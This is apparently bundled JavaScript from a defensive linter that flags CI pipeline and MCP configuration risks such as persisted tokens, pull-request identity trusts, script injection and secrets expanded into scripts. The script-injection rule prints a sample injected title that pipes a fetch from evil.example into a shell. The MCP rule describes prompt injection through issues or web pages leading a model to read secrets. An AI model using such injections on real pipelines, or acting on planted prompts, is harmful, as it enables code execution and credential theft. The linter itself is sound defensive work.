    for (const audience of subject.audiences) {
        if (!isKnown(audience))
            continue;
        const { text } = audience.text;
        const entra = subject.provider === 'entra';
        const shared = /^(?:https?:\/\/github\.com\/|sts\.amazonaws\.com$|api:\/\/AzureADTokenExchange)/i.test(text);
        if (entra ? entraAudience.test(text) : !shared)
            continue;
        report({
            ...problemAt(subject, audience),
            severity: entra ? 'note' : 'warning',
            message: entra
                ? `${where(subject)} takes tokens for '${text}', which is not the audience of Entra's token exchange`
                : `${where(subject)} takes tokens for '${text}', which jobs get for other services`,
            help: entra
                ? 'Use api://AzureADTokenExchange (of the cloud that the tenant is in).'
                : 'Leave allowed_audiences empty: the default is the name of the provider.',
            subject: subjectKey(subject, text)
        });
    }
}
//# sourceMappingURL=missing-audience.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/persisted-checkout-credentials.js




/** The checkout's token, left in the work tree for every later step. */
const persistedCheckoutCredentials = {
    meta: {
        id: 'persisted-checkout-credentials',
        summary: 'Checkout leaves its token on disk',
        severity: 'note',
        why: 'Up to version 5, `actions/checkout` writes its token into `.git/config`, where every later step, action and dependency of the job can read it, and from where it gets into artifacts and images made of the work tree. Azure Pipelines does the same with `persistCredentials: true`. It is a warning where the job uploads the work tree.',
        fix: 'Set `persist-credentials: false`, or remove `persistCredentials`. A job that pushes needs the token: give it to the one step that pushes.',
        securitySeverity: 3.5,
        references: [
            'https://github.com/actions/checkout#usage',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/yaml-schema/steps-checkout'
        ],
        bad: {
            file: '.github/workflows/test.yml',
            text: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm test
`
        },
        good: {
            file: '.github/workflows/test.yml',
            text: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - run: npm test
`
        }
    },
    check({ pipeline }, report) {
        for (const job of pipeline?.jobs ?? []) {
            for (const step of job.steps) {
                if (pipeline?.system === 'github')
                    checkGitHub(job, step, report);
                else
                    checkAzure(job, step, report);
            }
        }
    }
};
function checkGitHub(job, step, report) {
    const { uses } = step;
    if (uses?.name !== 'actions/checkout' || uses.path !== undefined)
        return;
    const setting = (0,inputs/* inputOf */.w)(step, 'persist-credentials');
    if (setting && setting.text.trim().toLowerCase() !== 'true')
        return;
    const version = (0,action_reference/* majorVersion */.iR)(uses);
    // From version 6 on the token lies outside of the work tree.
    if (version !== undefined && version >= 6)
        return;
    if (needsGit(job, step))
        return;
    const upload = later(job, step).find(uploadsWorkspace);
    const edits = setting ? [{ ...setting.range(), newText: 'false' }] : addSetting(step);
    report({
        range: uses.text.range(),
        message: upload
            ? `the checkout leaves its token in .git/config, and the work tree is uploaded by ${upload.uses?.text.text}`
            : 'the checkout leaves its token in .git/config for every later step',
        help: 'Set persist-credentials: false.',
        subject: job.id,
        ...(upload
            ? {
                severity: 'warning',
                related: [{ message: 'uploaded here', range: upload.range }]
            }
            : {}),
        ...(edits ? { fix: { description: 'set persist-credentials: false', edits } } : {})
    });
}
function checkAzure(job, step, report) {
    if (!step.checkout || (0,inputs/* flagOf */.i)(step, 'persistCredentials') !== true)
        return;
    if (needsGit(job, step))
        return;
    const setting = (0,inputs/* inputOf */.w)(step, 'persistCredentials');
    report({
        range: setting.range(),
        // A script of the repository may push: whoever set this had a reason.
        severity: later(job, step).some(runsRepositoryScript) ? 'note' : 'warning',
        message: 'persistCredentials leaves the token of the checkout in .git/config for every later step',
        help: 'Remove persistCredentials, or give the token to the one step that pushes.',
        subject: job.id,
        fix: {
            description: 'set persistCredentials: false',
            edits: [{ ...setting.range(), newText: 'false' }]
        }
    });
}
function runsRepositoryScript({ script, uses }) {
    const text = script?.text.text ?? '';
    if (/(?:^|[\s;&|(])(?:\.{1,2}[\\/]|(?:ba|z)?sh\s+\S+\.sh|pwsh\s|make\b|python3?\s|node\s|npm run|npx|yarn|pnpm)/m.test(text)) {
        return true;
    }
    return (uses !== undefined &&
        uses.kind === 'task' &&
        /^(?:bash|powershell|shellscript)$/.test(uses.name) &&
        !script);
}
function later(job, step) {
    const steps = runningSteps(job).map(running => running.step);
    return steps.slice(steps.indexOf(step) + 1);
}
/** Actions that commit or push with the token that the checkout left, by what they are called. */
const pushers = /(?:^|[/-])(?:commit|push|auto-?commit|pull-requests?|release|releaser|semantic-release|release-please|gh-?pages|github-pages|pages-deploy|version|bump|tag|changesets?|publish|sync|merge|rebase|backport|benchmark|claude-code|lerna|nx|nrwl)(?:[-/]|$)/;
/** Scripts that talk to the remote, or may: release tools push tags and commits. */
const usesRemote = /\bgit\s+(?:-[cC]\s{0,3}\S{1,200}\s+){0,5}(?:push|fetch|pull|clone|submodule|lfs|ls-remote|remote)\b|\bgh\s+pr\s+checkout\b|semantic-release|release-it|standard-version|lerna|changeset|\bnp\b|npm\s+version|mike\s+deploy|mkdocs\s+gh-deploy|gh-pages|goreleaser|cargo\s+release|bump|\bnx\b|git-cliff|commitizen|\bcz\b|turbo|affected/i;
/** True when a later step of the job needs the token, or may: it is a script of the repository. */
function needsGit(job, step) {
    return later(job, step).some(({ uses, script }) => {
        if (script && usesRemote.test(script.text.text))
            return true;
        return uses !== undefined && (pushers.test(uses.name) || uses.kind === 'local');
    });
}
function addSetting(step) {
    if (step.inputsInsertion) {
        const { at, indent } = step.inputsInsertion;
        return [{ start: at, end: at, newText: `persist-credentials: false\n${indent}` }];
    }
    if (step.inputs.length > 0 || !step.uses || !step.insertion)
        return undefined;
    const { file } = step.uses.text;
    const end = file.text.indexOf('\n', step.uses.text.range().end);
    const at = end < 0 ? file.text.length : end - (file.text[end - 1] === '\r' ? 1 : 0);
    const { indent } = step.insertion;
    return [{ start: at, end: at, newText: `\n${indent}with:\n${indent}  persist-credentials: false` }];
}
//# sourceMappingURL=persisted-checkout-credentials.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/pull-request-subject.js


/** A trust in workflows that pull requests start. */
const pullRequestSubject = {
    meta: {
        id: 'pull-request-subject',
        summary: 'Federated identity trusts workflows of pull requests',
        severity: 'warning',
        why: 'A workflow that a pull request starts runs the code of the pull request, before anybody has reviewed it: build scripts, tests, the workflow file itself. With this subject all of that gets a token. Whoever can push a branch to the repository, or take over one account that can, becomes the identity. It is an error where a workflow of this repository does log in so.',
        fix: 'Give pull requests an identity of their own that can read at most what a plan needs, or none. Everything that writes belongs behind an environment with reviewers: `repo:acme/app:environment:production`.',
        securitySeverity: 7.5,
        references: [
            'https://docs.github.com/actions/reference/security/oidc',
            'https://learn.microsoft.com/entra/workload-id/workload-identity-federation-create-trust'
        ],
        bad: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "plan" {\n  name                      = "plan"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:pull_request"\n}\n'
        },
        good: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                for (const admission of admissionsOf(subject)) {
                    if (admission.opening !== 'pull-request')
                        continue;
                    const use = documents
                        .flatMap(({ file, pullRequestLogIns = [] }) => pullRequestLogIns.map(item => ({ ...item, file })))
                        .find(({ provider }) => provider === subject.provider);
                    const at = problemAt(subject, admission.value);
                    report(facts, {
                        ...at,
                        ...(use && {
                            severity: 'error',
                            related: [
                                ...(at.related ?? []),
                                {
                                    message: `job '${use.job}' logs in on pull requests`,
                                    file: use.file,
                                    range: use.range
                                }
                            ]
                        }),
                        message: `${where(subject)} lets in ${admission.who}${use ? `; job '${use.job}' of ${use.file.path} does log in so` : ''}${rights(subject)}`,
                        help: 'Use an identity of its own for pull requests that can only read, or an environment with reviewers.',
                        subject: subjectKey(subject, 'pull_request')
                    });
                }
            }
        }
    }
};
//# sourceMappingURL=pull-request-subject.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/root-filesystem.js


/** A server that may read the whole disk, or a folder that holds everybody's data. */
const rootFilesystem = {
    meta: {
        id: 'root-filesystem',
        summary: 'MCP server has access to a root of the file system',
        severity: 'error',
        why: 'A server that may read `/`, a drive or all homes hands every key, token and document on the machine to whatever the model is talked into. A prompt in an issue or a web page is enough: no exploit is needed, reading files is what the server is for.',
        fix: 'Give the server the one folder it works on: `.`, `${workspaceFolder}` or a path inside the workspace. For a container, mount that folder and nothing above it, read-only where reading is enough. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.',
        securitySeverity: 8.8,
        references: [
            'https://modelcontextprotocol.io/specification/2025-06-18/client/roots',
            'https://cwe.mitre.org/data/definitions/732.html'
        ],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "."]\n    }\n  }\n}\n'
        }
    },
    check(facts, report, config) {
        for (const server of facts.mcpServers) {
            for (const access of (0,filesystem_access/* filesystemAccess */.m)(server, config)) {
                if (access.breadth !== 'root')
                    continue;
                report({
                    range: access.range,
                    message: `${(0,server_label/* serverLabel */.K)(server)} may use all of '${access.path}'${access.through === 'mount' ? ', mounted from the host' : ''}`,
                    help: 'Name the one folder it needs, such as ${workspaceFolder} or a path inside the workspace.',
                    subject: `${server.name} ${access.path}`
                });
            }
        }
    }
};
//# sourceMappingURL=root-filesystem.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/environment-edit.js
/**
 * Edits that hand an expression to a script through the environment: an entry in the step's `env`,
 * and the variable, quoted for its place, in the script. Undefined where the meaning could change.
 */
function passThroughEnvironment(use, name) {
    const { step } = use;
    const script = step?.script;
    if (!step || !script?.commands || use.text !== script.text || use.start === 0)
        return undefined;
    const { file } = script.text;
    const original = file.text.slice(use.range.start, use.range.end);
    // In a quoted YAML scalar the quotes of the shell would need escapes of their own.
    const before = file.text[script.text.range().start - 1];
    if (before === '"' || before === "'" || original.includes('\n'))
        return undefined;
    const variable = variableName(name);
    const entry = environmentEdit(step, variable, original);
    const replacement = replacementFor(use, script, variable, file.text);
    return entry && replacement ? [...entry, replacement] : undefined;
}
function variableName(name) {
    const plain = name.replace(/[^A-Za-z0-9_]/g, '_').toUpperCase();
    return /^\d/.test(plain) ? `_${plain}` : plain;
}
function environmentEdit(step, name, value) {
    const existing = step.variables.find(variable => variable.name.text === name);
    if (existing)
        return existing.value.text.trim() === value ? [] : undefined;
    if (step.envInsertion) {
        const { at, indent } = step.envInsertion;
        return [{ start: at, end: at, newText: `${name}: ${value}\n${indent}` }];
    }
    if (step.variables.length > 0 || !step.scriptInsertion)
        return undefined;
    const { at, indent } = step.scriptInsertion;
    return [{ start: at, end: at, newText: `env:\n${indent}  ${name}: ${value}\n${indent}` }];
}
function replacementFor(use, script, name, text) {
    const found = wordAround(script.commands, use.range);
    if (!found)
        return undefined;
    const { word, document } = found;
    const raw = text.slice(word.range.start, use.range.start);
    const quotes = document ? (word.quoted ? 'single' : 'document') : quotesAfter(raw, script);
    const power = script.shell === 'pwsh' || script.shell === 'powershell';
    if (quotes === 'single') {
        const whole = raw === "'" && text.slice(use.range.end, word.range.end) === "'";
        return whole ? { ...word.range, newText: power ? `$env:${name}` : `"$${name}"` } : undefined;
    }
    if (power) {
        if (document)
            return undefined;
        const newText = quotes === 'double' ? `$($env:${name})` : `$env:${name}`;
        // Outside of quotes only a whole word is an expression.
        const whole = word.range.start === use.range.start && word.range.end === use.range.end;
        return quotes === 'double' || whole ? { ...use.range, newText } : undefined;
    }
    return { ...use.range, newText: quotes === 'none' ? `"\${${name}}"` : `\${${name}}` };
}
/** The quotes that are open after the beginning of a word. */
function quotesAfter(raw, { shell }) {
    const escapeCharacter = shell === 'pwsh' || shell === 'powershell' ? '`' : '\\';
    let quotes = 'none';
    for (let i = 0; i < raw.length; i++) {
        const character = raw[i];
        if (character === escapeCharacter && quotes !== 'single')
            i++;
        else if (character === "'" && quotes !== 'double') {
            quotes = quotes === 'single' ? 'none' : 'single';
        }
        else if (character === '"' && quotes !== 'single') {
            quotes = quotes === 'double' ? 'none' : 'double';
        }
    }
    return quotes;
}
/** The innermost word that a place of the script lies in. */
function wordAround({ commands, assignments }, range) {
    let best;
    const consider = (word, document = false) => {
        if (!word || word.range.start > range.start || word.range.end < range.end)
            return;
        const size = word.range.end - word.range.start;
        if (!best || size <= best.word.range.end - best.word.range.start)
            best = { word, document };
    };
    for (const command of commands) {
        for (const word of command.words)
            consider(word);
        for (const { value } of command.assignments)
            consider(value);
        consider(command.input);
        for (const redirect of command.redirects) {
            consider(redirect.target);
            consider(redirect.document, redirect.operator.startsWith('<<') && redirect.operator !== '<<<');
        }
    }
    for (const { value, items } of assignments) {
        consider(value);
        for (const item of items ?? [])
            consider(item);
    }
    return best;
}
//# sourceMappingURL=environment-edit.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/script-injection.js





/** A stranger's text that becomes part of a script. */
const scriptInjection = {
    meta: {
        id: 'script-injection',
        summary: 'Text that a stranger chooses is expanded into a script',
        severity: 'error',
        why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
        fix: 'Hand the value over in `env` and use the variable, quoted: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
        securitySeverity: 9,
        references: [
            'https://docs.github.com/en/actions/concepts/security/script-injections',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs'
        ],
        bad: {
            file: '.github/workflows/greet.yml',
            text: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: ./deploy "\${{ github.event.issue.title }}"
`
        },
        good: {
            file: '.github/workflows/greet.yml',
            text: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: ./deploy "$TITLE"
`
        }
    },
    check({ pipeline }, report) {
        if (!pipeline)
            return;
        for (const job of pipeline.jobs) {
            for (const { step, file, given, through } of runningSteps(job)) {
                for (const use of expressionsOfStep(step)) {
                    if (use.place !== 'script' && use.place !== 'code-input')
                        continue;
                    const found = untrustedInput(use, given) ?? queueTimeParameter(use, pipeline);
                    if (!found)
                        continue;
                    const authority = authorityOf(job);
                    const held = holdsAuthority(authority);
                    const edits = passThroughEnvironment(use, environmentName(use.expression));
                    const queued = 'queued' in found;
                    report({
                        range: use.range,
                        file,
                        severity: queued ? 'note' : held ? 'error' : 'warning',
                        message: queued
                            ? `parameter ${found.source} becomes part of the script: whoever queues a run can put commands in`
                            : `${found.source} becomes part of the script, so that whoever chooses it runs commands${held ? ` in a job that holds ${describeAuthority(authority)}` : ''}`,
                        help: 'Hand it over in env and use the variable, quoted.',
                        subject: `${step.job.id} ${found.source}`,
                        related: through.map(({ text, from }) => ({
                            message: `runs in job '${job.id}'`,
                            file: from.file,
                            range: text.range()
                        })),
                        ...(edits
                            ? { fix: { description: 'pass the value through the environment of the step', edits } }
                            : {})
                    });
                }
            }
        }
    }
};
/**
 * A parameter of a pipeline (not of a template) that takes any text. Only people who may queue runs
 * choose it, which is less than a stranger and more than a reviewer.
 */
function queueTimeParameter({ expression, syntax }, pipeline) {
    if (syntax !== 'template' || pipeline.kind !== 'pipeline')
        return undefined;
    for (const { path, flows } of (0,formats_expression/* referencesIn */.ii)(expression)) {
        if (!flows || path[0] !== 'parameters' || path.length !== 2)
            continue;
        const parameter = pipeline.parameters.find(({ name }) => name.toLowerCase() === path[1]);
        if (parameter?.type === 'string' && !parameter.limited) {
            return { source: parameter.name, queued: true };
        }
    }
    return undefined;
}
/** A variable's name for a value: the last words of its path. */
function environmentName(expression) {
    const path = (0,formats_expression/* referencesIn */.ii)(expression)[0]?.path ?? [];
    const words = path.flatMap(part => (/^[*?\d]+$/.test(part) ? [] : part.split('.')));
    return words.slice(-2).join('_').toUpperCase();
}
//# sourceMappingURL=script-injection.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/secret-in-script.js



/** A secret that the CI system writes into the text of a script. */
const secretInScript = {
    meta: {
        id: 'secret-in-script',
        summary: 'Secret expanded into the text of a script',
        severity: 'warning',
        why: '`${{ secrets.X }}` and `$(X)` in a script are replaced before the shell starts: the secret becomes part of the program. A `$`, a quote or a line break in it changes what the script does, the script lies on disk with the secret in it, and the value stands in the arguments of whatever it calls, where the process list and command tracing show it.',
        fix: 'Map the secret into the `env` of the step and use the variable: `"$X"` in bash, `$env:X` in PowerShell.',
        securitySeverity: 5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-an-intermediate-environment-variable',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/process/set-secret-variables'
        ],
        bad: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - run: ./upload \${{ secrets.UPLOAD_KEY }}
`
        },
        good: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - env:
          UPLOAD_KEY: \${{ secrets.UPLOAD_KEY }}
        run: ./upload
`
        }
    },
    check({ pipeline }, report) {
        for (const use of pipeline?.expressions ?? []) {
            if (use.place !== 'script' && use.place !== 'code-input')
                continue;
            const token = isOwnToken(use);
            const names = token ? ['GITHUB_TOKEN'] : secretNames(use);
            const [name] = names;
            if (name === undefined)
                continue;
            const edits = names.length === 1 ? passThroughEnvironment(use, name) : undefined;
            const certain = use.syntax === 'github' || isCertain(use, name);
            report({
                range: use.range,
                message: certain
                    ? `${token ? 'the token' : `secret ${names.join(' and ')}`} becomes part of the script's text`
                    : `variable ${name}, a secret by its name, becomes part of the script's text`,
                help: `Map it into the step's env and use the variable instead.`,
                subject: `${use.job?.id ?? ''} ${names.join(' ')}`,
                // The job's own token ends with the job.
                ...(token ? { severity: 'note' } : {}),
                ...(edits
                    ? { fix: { description: `pass ${name} through the environment of the step`, edits } }
                    : {})
            });
        }
    }
};
function secretNames(use) {
    if (use.syntax === 'github')
        return secretsIn(use).filter(name => name !== 'all of them');
    if (use.syntax !== 'macro')
        return [];
    return secretsIn(use).filter(name => isCertain(use, name) || !isCommand(use, name));
}
function isOwnToken(use) {
    return (use.syntax === 'github' &&
        (0,formats_expression/* referencesIn */.ii)(use.expression).some(({ path, flows }) => {
            const name = path.join('.');
            return flows && (name === 'secrets.github_token' || name === 'github.token');
        }));
}
/** Known from the file: fetched from Key Vault, declared by a logging command, or the agent's own. */
function isCertain(use, name) {
    if (name.toLowerCase() === 'system.accesstoken')
        return true;
    return variablesIn(use).some(variable => isSecretVariable(variable, use.job?.pipeline, use.job, 'certain'));
}
/** `$(get_password)` in a shell script is as likely a function as a variable. */
function isCommand(use, name) {
    if (/^(?:get|fetch|read|gen|generate|create|make|print|show|load|find|retrieve|decode|build|new)[-_A-Z]/.test(name)) {
        return true;
    }
    const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    return new RegExp(`(?:^|\\n)[ \\t]*(?:function[ \\t]+${escaped}\\b|${escaped}[ \\t]*\\(\\))`).test(use.text.text);
}
//# sourceMappingURL=secret-in-script.js.map
// EXTERNAL MODULE: ./build/shared/lint/credentials/secret-name.js
var secret_name = __webpack_require__(73313);
// EXTERNAL MODULE: ./build/shared/lint/pipelines/minting.js
var minting = __webpack_require__(49836);
// EXTERNAL MODULE: ./build/shared/lint/formats/azure-expression.js
var azure_expression = __webpack_require__(88543);
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/logging-command.js

/** The event of a `##vso[task.setvariable]`; undefined when nothing says that the value is secret. */
function setVariableEvent(step, properties, value, { range, properties: at }) {
    const name = /(?:^|;)\s*variable\s*=\s*([^;\]]+)/i.exec(properties)?.[1]?.trim();
    if (name === undefined)
        return undefined;
    if (!value && !(0,secret_name/* secretName */.G)(name))
        return undefined;
    return {
        kind: 'handed-on',
        step,
        range,
        value: value ?? {
            kind: 'stored',
            what: `variable ${name}`,
            origin: `variable ${name}`,
            named: true
        },
        masked: false,
        to: 'variable',
        name,
        declared: /(?:^|;)\s*issecret\s*=\s*true/i.test(properties),
        certain: value !== undefined,
        ...(at ? { properties: at } : {})
    };
}
//# sourceMappingURL=logging-command.js.map
// EXTERNAL MODULE: ./build/shared/lint/source.js
var source = __webpack_require__(33751);
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/secret-value.js


/** Azure Pipelines hands variables on as environment in capitals, dots as underscores. */
function secret_value_environmentName(name, step) {
    return step.job.pipeline.system === 'azure' ? name.toUpperCase().replace(/[.\s-]/g, '_') : name;
}
function azureVariable(name, job) {
    if (!isSecretVariable(name, job.pipeline, job))
        return undefined;
    const own = name.toLowerCase() === 'system.accesstoken';
    return {
        kind: own ? 'token' : 'stored',
        what: `variable ${name}`,
        origin: `variable ${name.toLowerCase()}`,
        named: true
    };
}
/** The secret that a reference of GitHub's expressions yields. */
function fromReference({ path, flows, within }, exported) {
    if (!flows)
        return undefined;
    const [root, second] = path;
    const name = path.at(-1) ?? '';
    if (path.join('.') === 'github.token' || path.join('.') === 'secrets.github_token') {
        return { kind: 'token', what: 'the token of the job', origin: 'github.token', named: true };
    }
    if (root === 'secrets' && second !== undefined) {
        const what = `secret ${second.toUpperCase()}`;
        const derived = within.includes('fromjson');
        return {
            kind: derived ? 'derived' : 'stored',
            what: derived ? `a part of ${what}` : what,
            origin: `secrets.${path.slice(1).join('.')}`,
            named: (0,secret_name/* secretName */.G)(second) !== undefined
        };
    }
    if (root === 'env' && second !== undefined) {
        for (const [variable, value] of exported)
            if (variable.toLowerCase() === second)
                return value;
        return undefined;
    }
    if ((root === 'steps' || root === 'needs') && path.includes('outputs') && (0,secret_name/* secretName */.G)(name)) {
        // Whatever set it had to mask it: that is judged where it was set.
        return { kind: 'stored', what: `output ${name}`, origin: path.join('.'), named: true };
    }
    return undefined;
}
/** What is made of a stored secret: the runner does not know it. */
function derive(value) {
    return {
        ...value,
        kind: 'derived',
        what: value.what,
        origin: `part of ${value.origin}`
    };
}
//# sourceMappingURL=secret-value.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/shell-output.js

/** Programs that change a text that they read, so that a mask on the text no longer fits. */
const transformers = new Set('jq yq base64 cut awk gawk sed python python3 node ruby perl xxd od rev fold gunzip zcat gzip openssl head tail grep'.split(' '));
/** Programs that print what they read, as it is. */
const repeaters = new Set('tee cat tr xargs envsubst column sort uniq'.split(' '));
/** Programs that print nothing that tells of what they read. */
const digests = /^(?:sha\d*sum|shasum|md5sum|b2sum|cksum|wc|test|true|jwt)$/;
const printers = new Set('echo printf write-host write-output write-information write-verbose write-warning print'.split(' '));
/** `jq -r .expires_in`: a part that is no secret. */
function selectsHarmless(command, program, value) {
    if (program !== 'jq' && program !== 'yq')
        return false;
    const [filter] = (0,minting/* operandsOf */.ep)(command);
    return (filter !== undefined &&
        filter.expansions.length === 0 &&
        (0,minting/* isHarmlessSelection */.yc)(filter.text.text, value.kind === 'minted' ? 'minted' : 'stored') &&
        !/@base64/.test(filter.text.text));
}
/** The commands that read what a command prints, in order. */
function chainOf(command) {
    const chain = [];
    for (let next = command.pipedTo; next && chain.length < 50; next = next.pipedTo)
        chain.push(next);
    return chain;
}
/** True when what a command prints comes to the log: nothing takes it in on the way. */
function reachesLog(command) {
    const chain = chainOf(command);
    for (const reader of chain) {
        const program = (0,minting/* programOf */.oQ)(reader);
        if (!transformers.has(program) && !repeaters.has(program))
            return false;
        if (program === 'grep' && reader.words.some(({ text }) => /^-\w*[cq]/.test(text.text)))
            return false;
        if (/^(?:python3?|node|ruby|perl|openssl|xargs|gzip)$/.test(program))
            return false;
    }
    const last = chain.at(-1) ?? command;
    const first = [...command.redirects, ...(chain.length > 0 ? last.redirects : [])];
    return first.every(({ operator, descriptor, target }) => {
        if (!operator.includes('>') || descriptor === '2')
            return true;
        const name = target?.text.text ?? '';
        return (/^(?:1|2|\/dev\/(?:stdout|stderr|tty|fd\/[12]))$/.test(name) ||
            /GITHUB_STEP_SUMMARY/.test(name));
    });
}
/** `env`, `printenv`, `export -p`, `Get-ChildItem Env:`. */
function isDump(command, program) {
    const operands = (0,minting/* operandsOf */.ep)(command);
    switch (program) {
        case 'env':
            // `env X=1 program` starts a program.
            return operands.length === 0;
        case 'printenv':
            return operands.length === 0;
        case 'export':
        case 'declare':
            return (command.words.some(({ text }) => text.text === '-p' || text.text === '-xp' || text.text === '-px') && operands.length === 0);
        case 'get-childitem':
        case 'gci':
        case 'dir':
        case 'ls':
            return operands.some(({ text }) => /^env:\*?$/i.test(text.text));
        default:
            return false;
    }
}
//# sourceMappingURL=shell-output.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/script-flow.js







/** Follows secrets through one script: through assignments and pipes to where they end. */
class ScriptFlow {
    step;
    script;
    environment;
    variables = new Map();
    events;
    exported;
    masks;
    captured = new Set();
    power;
    maskedAll = false;
    tracing = false;
    constructor(step, script, environment, events, exported, masks) {
        this.step = step;
        this.script = script;
        this.environment = environment;
        this.events = events;
        this.exported = exported;
        this.masks = masks;
        this.power = step.script?.shell === 'pwsh' || step.script?.shell === 'powershell';
    }
    run() {
        const { commands, assignments } = this.script;
        for (const assignment of assignments)
            for (const command of assignment.commands ?? [])
                this.capture(command);
        for (const command of commands) {
            if (command.captured)
                this.capture(command);
            for (const word of wordsOf(command))
                this.captureIn(word);
        }
        for (const { value } of assignments)
            if (value)
                this.captureIn(value);
        const order = [
            ...commands.map(command => ({ at: command.range.start, command, assignment: undefined })),
            ...assignments.map(assignment => ({ at: assignment.range.end, command: undefined, assignment }))
        ].sort((a, b) => a.at - b.at);
        for (const { command, assignment } of order) {
            if (command)
                this.command(command);
            else if (assignment) {
                const value = (assignment.value && this.valueOf(assignment.value)) ??
                    (assignment.commands && this.outputOf(assignment.commands));
                const name = this.nameOf(assignment.name.text);
                if (value?.kind === 'derived')
                    this.parsed(value, assignment.range);
                if (value || !assignment.append) {
                    if (assignment.value || assignment.commands)
                        this.variables.set(name, value);
                }
            }
        }
    }
    capture(command) {
        if (this.captured.has(command))
            return;
        this.captured.add(command);
        if (command.pipedTo)
            this.capture(command.pipedTo);
    }
    captureIn(word) {
        for (const { commands } of word.expansions)
            for (const command of commands ?? [])
                this.capture(command);
    }
    nameOf(name) {
        return this.power
            ? name
                .replace(/^\$/, '')
                .replace(/^(?:script|global|local):/i, '')
                .toLowerCase()
            : name;
    }
    command(command) {
        const program = (0,minting/* programOf */.oQ)(command);
        const text = [...wordsOf(command)].map(word => word.text.text).join(' ');
        if (program === 'set' && /(?:^|\s)-\w*x|-o xtrace/.test(text))
            this.tracing = true;
        if (program === 'set' && /(?:^|\s)\+\w*x|\+o xtrace/.test(text))
            this.tracing = false;
        if (this.maskCommand(command, text))
            return;
        if (this.loggingCommand(command, text))
            return;
        const target = this.handOverOf(command);
        if (target) {
            this.handOver(command, target);
            return;
        }
        const values = this.valuesIn(command);
        this.events.push({ kind: 'command', step: this.step, command, values });
        this.printed(command, program, values);
    }
    /** `::add-mask::` and `##vso[task.setsecret]`. */
    maskCommand(command, text) {
        if (!/::add-mask::|##vso\[task\.setsecret\]/i.test(text) &&
            !/::add-mask::/.test(documentOf(command))) {
            return false;
        }
        for (const word of wordsOf(command)) {
            for (const expansion of word.expansions) {
                const value = this.expansionValue(expansion, word);
                if (value)
                    this.masks.add(value.origin);
                // Something else is masked: lines of a value, a variable of a loop.
                else if (expansion.kind !== 'template')
                    this.maskedAll = true;
            }
        }
        return true;
    }
    /** `##vso[task.setvariable]` and the old `::set-output`. */
    loggingCommand(command, text) {
        const vso = /##vso\[task\.setvariable ([^\]\r\n]{1,300})\]/i.exec(text);
        const old = /::set-(output|env) name=([\w-]+)::/i.exec(text);
        if (!vso && !old)
            return false;
        const words = [...wordsOf(command)];
        const word = words.find(({ text }) => /##vso\[task\.setvariable |::set-(?:output|env) /i.test(text.text));
        if (!word)
            return true;
        const following = words.slice(words.indexOf(word));
        const value = following.map(each => this.valueOf(each)).find(found => found !== undefined);
        const nonliteral = following.some(each => each.expansions.length > 0);
        if (vso) {
            const inner = /##vso\[task\.setvariable ([^\]\r\n]{1,300})\]/i.exec(word.text.text);
            const close = inner ? inner.index + inner[0].length - 1 : undefined;
            if (!nonliteral && !value)
                return true;
            const event = setVariableEvent(this.step, vso[1], value, {
                range: command.range,
                ...(close === undefined ? {} : { properties: word.text.range(close, close) })
            });
            if (event) {
                this.events.push({ ...event, masked: event.declared || this.isMasked(event.value) });
                if (!event.declared)
                    this.exported.set(secret_value_environmentName(event.name, this.step), event.value);
            }
        }
        else if (old && value) {
            this.events.push({
                kind: 'handed-on',
                step: this.step,
                range: command.range,
                value,
                masked: this.isMasked(value),
